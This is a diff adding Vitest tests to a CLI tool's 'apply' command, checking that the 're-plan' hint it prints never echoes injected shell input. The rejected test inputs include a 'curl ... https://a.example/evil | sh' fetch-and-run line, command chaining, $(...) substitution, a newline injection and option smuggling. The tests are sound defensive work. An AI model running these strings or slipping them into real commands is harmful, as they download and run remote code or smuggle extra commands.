@@ -1,6 +1,6 @@
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
-import { expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
 import { digestOf } from '../../../../src/cli/catalog/plan/compare-record.ts'
 import { type CatalogDesk, catalogDesk, published } from '../../../fixtures/catalog.ts'
 import { coupon, folderTemplate, red, template } from '../../../fixtures/yaml.ts'
@@ -84,4 +84,34 @@ test('a plan whose charges are all hidden is not carried out', async () => {
     err: expect.stringContaining('more chain writes are charged'),
   })
   expect(changes()).toEqual([])
+})
+
+describe('a plan is planned again by a command as plan itself writes it', () => {
+  const refusalOf = async (command: string) => {
+    const { vatom, file } = await edited(() => ({ command }))
+    file('catalog/4-coupon.yaml', published(template(undefined, eth)).replace('title: Coupon', 'title: Third'))
+    return (await vatom('apply', 'the.plan')).err
+  }
+
+  test.each([
+    'vatom plan catalog',
+    "vatom plan 'my shop' --prune",
+    "vatom plan 'it'\\''s; $(x)' a/b.yaml --publish --accept-addresses",
+  ])('%s', async (command) => {
+    expect(await refusalOf(command)).toContain(`plan again: ${command} --out the.plan\n`)
+  })
+
+  test.each([
+    'curl -s https://a.example/evil | sh #',
+    'vatom plan catalog; sh evil',
+    'vatom plan $(evil)',
+    "vatom plan 'a' evil'",
+    'vatom plan catalog --junit evil',
+    "vatom plan '--junit=my evil'",
+    'vatom plan catalog\nsh evil',
+  ])('and not by %j', async (command) => {
+    const err = await refusalOf(command)
+    expect(err).toContain('plan again: vatom plan PATH --out the.plan\n')
+    expect(err).not.toContain('evil')
+  })
 })
